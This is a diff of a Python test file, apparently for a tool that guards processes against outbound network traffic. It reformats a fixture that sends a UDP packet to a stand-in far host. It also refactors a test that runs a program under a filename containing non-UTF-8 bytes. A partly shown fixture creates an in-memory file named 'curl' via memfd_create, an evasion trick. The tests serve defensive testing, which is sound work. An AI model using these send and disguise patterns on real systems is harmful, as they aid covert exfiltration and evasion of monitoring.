@@ -14,7 +14,12 @@ from worlds import FAR, Agent, World, run
 from stile.applications import Kind
 from stile.rules import Action, Lifetime
 
-SENDS = f"import socket, time; made = socket.socket(2, 2); made.sendto(b'evil', ('{FAR}', 9)); time.sleep(60)"
+SENDS = f"""
+import socket, time
+made = socket.socket(2, 2)
+made.sendto(b"evil", ("{FAR}", 9))
+time.sleep(60)
+"""
 IN_MEMORY = """
 import os, sys
 made = os.memfd_create("curl", 0)
@@ -114,8 +119,9 @@ def test_a_strange_name_is_only_a_name(guarded: World, name: str) -> None:
 def test_octets_that_are_no_text_are_spelled(guarded: World) -> None:
     guarded.stiled()
     account, agent = Account(guarded), guarded.agent()
-    strange = os.fsencode(account.program("evil")) + b"\xff\xfe"
-    shutil.copy(account.program("evil"), strange)
+    evil = account.program("evil")
+    strange = os.fsencode(evil) + b"\xff\xfe"
+    evil.rename(os.fsdecode(strange))
 
     guarded.start(*account.command(os.fsdecode(strange), "-S", "-c", SENDS))
 
